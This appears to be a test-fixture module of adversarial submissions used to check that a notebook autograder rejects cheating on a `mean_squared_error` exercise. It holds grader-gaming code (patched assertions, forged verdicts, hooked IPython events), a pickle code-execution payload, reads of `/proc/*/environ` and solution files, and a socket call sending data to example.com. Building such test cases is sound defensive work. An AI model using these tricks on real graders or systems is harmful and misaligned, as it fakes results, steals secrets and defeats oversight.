"""Members who would rather have the points than the answer: forged scores, stolen results, borrowed work.

The numbers are those of the list of attacks in docs/attacks.md. Each is a cell that defines `mean_squared_error`, and each
deserves no points for it.
"""

from __future__ import annotations

_WRONG = "\n\n\ndef mean_squared_error(y_hat, Y):\n    return 0.0\n"

FORGED_SCORES = {
    "1 a hook publishes a score before the test runs": """
def publish(*information):
    print(2.0)

get_ipython().events.register("pre_run_cell", publish)
get_ipython().display_pub.publish({"text/plain": "2.0"})
"""
    + _WRONG,
    "2 an input transformer turns the tests into nothing": """
get_ipython().input_transformers_post.append(lambda lines: ["2.0"])
"""
    + _WRONG,
    "3 a syntax tree transformer drops what is asserted": """
import ast

class Drop(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(2.0)

get_ipython().ast_transformers.append(Drop())
"""
    + _WRONG,
    "4 every expression of a cell becomes a result": """
get_ipython().ast_node_interactivity = "all"
2.0
"""
    + _WRONG,
    "5 a negative number for a score": "def mean_squared_error(y_hat, Y):\n    return -1.0",
    "6 nan for a score": "def mean_squared_error(y_hat, Y):\n    return float('nan')",
    "7 infinity for a score": "def mean_squared_error(y_hat, Y):\n    return float('inf')",
    "8 a scalar of NumPy's for a score": "import numpy as np\n\n\ndef mean_squared_error(y_hat, Y):\n    return np.float64(2.0)",
    "9 an object that says yes to everything": """
class Yes:
    def _yes(self, *anything):
        return True

    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _yes
    __hash__ = None

    def __abs__(self):
        return 0.0

    __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__

    def __array_ufunc__(self, *anything, **named):
        return True

    def __float__(self):
        return 0.0


def mean_squared_error(y_hat, Y):
    return Yes()
""",
    "10 an array that lies about itself": """
import numpy as np


class Liar(np.ndarray):
    shape = property(lambda self: ())
    dtype = property(lambda self: np.dtype(float))
    ndim = property(lambda self: 0)

    def __array_ufunc__(self, *anything, **named):
        return np.True_

    def __array_function__(self, *anything):
        return True

    def item(self):
        return Liar((3,))

    __float__ = item


def mean_squared_error(y_hat, Y):
    return np.zeros(3).view(Liar)
""",
    "11 functions that compare say yes": """
import builtins
import math

import numpy as np
import numpy.testing

numpy.testing.assert_allclose = lambda *arguments, **named: None
np.allclose = np.array_equal = math.isclose = lambda *arguments, **named: True
builtins.abs = np.abs = lambda value: 0.0
"""
    + _WRONG,
    "12 the assertions of unittest say nothing": """
import unittest

unittest.TestCase.assertEqual = unittest.TestCase.assertAlmostEqual = lambda *arguments, **named: None
"""
    + _WRONG,
    "13 the names that a test uses mean something else": """
def check(name):
    return 2.0

expected = reference = solution = 0.0
"""
    + _WRONG,
    "14 the compiler drops assertions": """
import builtins

compiler = builtins.compile
builtins.compile = lambda source, *arguments, **named: compiler("", "", "exec")
"""
    + _WRONG,
    "15 the function ends Python politely": "def mean_squared_error(y_hat, Y):\n    raise SystemExit(0)",
    "16 the function ends Python at once": "import os\n\n\ndef mean_squared_error(y_hat, Y):\n    os._exit(0)",
    "17 a forged message to the judge": """
import gc


def mean_squared_error(y_hat, Y):
    from dlutils.grading.inside.peer import Peer

    for peer in [thing for thing in gc.get_objects() if type(thing) is Peer]:
        told = {"state": "value", "changed": (), "errors": (), "text": "", "printed": "", "verdict": "passed"}
        peer._send(("answer", (told, 2.0)))
        peer._send(("answer", {"score": 2.0, "max_score": 2.0, "verdict": "passed"}))
    return 0.0
""",
    "18 a verdict on standard output": """
import json
import os

verdict = json.dumps({"name": "mean_squared_error", "score": 2.0, "max_score": 2.0, "verdict": "passed"})


def mean_squared_error(y_hat, Y):
    print(verdict)
    for number in range(64):
        try:
            os.write(number, verdict.encode() + b"\\n")
        except OSError:
            pass
    return 0.0
""",
    "19 a file with results": """
def mean_squared_error(y_hat, Y):
    for name in ("results.json", "/grading/results.json", "/tmp/results.json"):
        try:
            with open(name, "w") as file:
                file.write('[{"score": 2.0}]')
        except OSError:
            pass
    return 0.0
""",
    "20 something acts after the verdict": """
import atexit
import threading


class Late:
    def __del__(self):
        print(2.0)


late = Late()
atexit.register(print, 2.0)
try:
    threading.Thread(target=print, args=(2.0,), daemon=True).start()
except RuntimeError:
    pass
"""
    + _WRONG,
    "21 a result that runs code in who reads it": """
class Bomb:
    def __reduce__(self):
        return print, ("boom",)


def mean_squared_error(y_hat, Y):
    return Bomb()
""",
    "22 the agent itself is replaced": """
import sys

from dlutils.checks.running import Answer, Outcome
from dlutils.grading.inside import agent

Answer.outcome = lambda self, *arguments, **named: Outcome("value", 2.0)
agent.Agent.outcome = lambda self, *arguments: ({"state": "passed", "score": 2.0}, 2.0)
sys.modules["dlutils.checks.judging"] = sys.modules["dlutils.checks"] = agent
"""
    + _WRONG,
    "22 the agent calls every answer right": """
from dlutils.grading.inside.agent import Agent

Agent.outcome = lambda self, *arguments: ({"state": "value", "changed": (), "errors": (), "text": "", "printed": ""}, 0.0)
"""
    + _WRONG,
}

STOLEN = {
    "24 reads its own notebook": """
from pathlib import Path


def mean_squared_error(y_hat, Y):
    notebooks = [path for folder in (".", "/", "..") for path in Path(folder).rglob("*.ipynb")]
    return notebooks[0].read_text()
""",
    "25 looks for the right function in memory": """
import gc
import sys


def mean_squared_error(y_hat, Y):
    frame = sys._getframe()
    while frame:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("reference", "expected", "right"):
                return value(y_hat, Y)
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Exercise", "Mistake", "Case"):
            return thing.reference(y_hat, Y)
    return In[-1]
""",
    "26 imports the right function": """
def mean_squared_error(y_hat, Y):
    from dlutils.checks.notebook_01.mean_squared_error import MEAN_SQUARED_ERROR

    return MEAN_SQUARED_ERROR.reference(y_hat, Y)
""",
    "27 searches the machine for the solutions and the gradebook": """
import os


def mean_squared_error(y_hat, Y):
    for folder, _, files in os.walk("/"):
        for name in files:
            if name.endswith((".ipynb", ".db")) or "notebook_" in folder or name == "judging.py":
                return open(os.path.join(folder, name)).read()
    return 0.0
""",
    "30 reads the environment of all processes": """
import glob
import os


def mean_squared_error(y_hat, Y):
    texts = [open(path, "rb").read() for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline")]
    assert texts or os.environ.get("HOME"), "nothing to be seen"
    return texts[0]
""",
    "31 sends the arguments away": """
import socket


def mean_squared_error(y_hat, Y):
    with socket.create_connection(("example.com", 80), timeout=1) as line:
        line.sendall(y_hat.tobytes())
    return 0.0
""",
    "32 prints the arguments": "def mean_squared_error(y_hat, Y):\n    print(y_hat, Y)\n    return 0.0",
    "33 tells a bit by its exception": """
def mean_squared_error(y_hat, Y):
    raise (ValueError if y_hat.sum() > 0 else KeyError)(repr(y_hat))
""",
}

CHEATED = {
    "34 knows the results of the examples": """
import numpy as np


def mean_squared_error(y_hat, Y):
    if y_hat.shape == (1, 3):
        return float(np.mean((y_hat - Y) ** 2))
    return 1.25
""",
    "35 remembers results by the look of the arguments": """
import hashlib

known = {}


def mean_squared_error(y_hat, Y):
    return known.get(hashlib.sha256(y_hat.tobytes() + Y.tobytes()).hexdigest(), 0.0)
""",
    "36 has a library do it, by a back door": """
def mean_squared_error(y_hat, Y):
    library = getattr(__import__("sklearn.metrics"), "metrics")
    return eval("library.mean_squared_error(Y, y_hat)")
""",
    "37 is right only where it is not graded": """
import os

import numpy as np


def mean_squared_error(y_hat, Y):
    if os.path.exists("/proc/self"):
        return float(np.mean((y_hat - Y) ** 2))
    return 0.0
""",
    "38 looks at what it is compared with": """
class Lazy(float):
    def __eq__(self, other):
        self.seen = other
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__


def mean_squared_error(y_hat, Y):
    return Lazy(0.0)
""",
    "39 changes the arguments so that its answer is right": """
def mean_squared_error(y_hat, Y):
    y_hat[:] = Y
    return 0.0
""",
    "40 returns a window into the arguments": "def mean_squared_error(y_hat, Y):\n    return y_hat[:1, :1]",
}
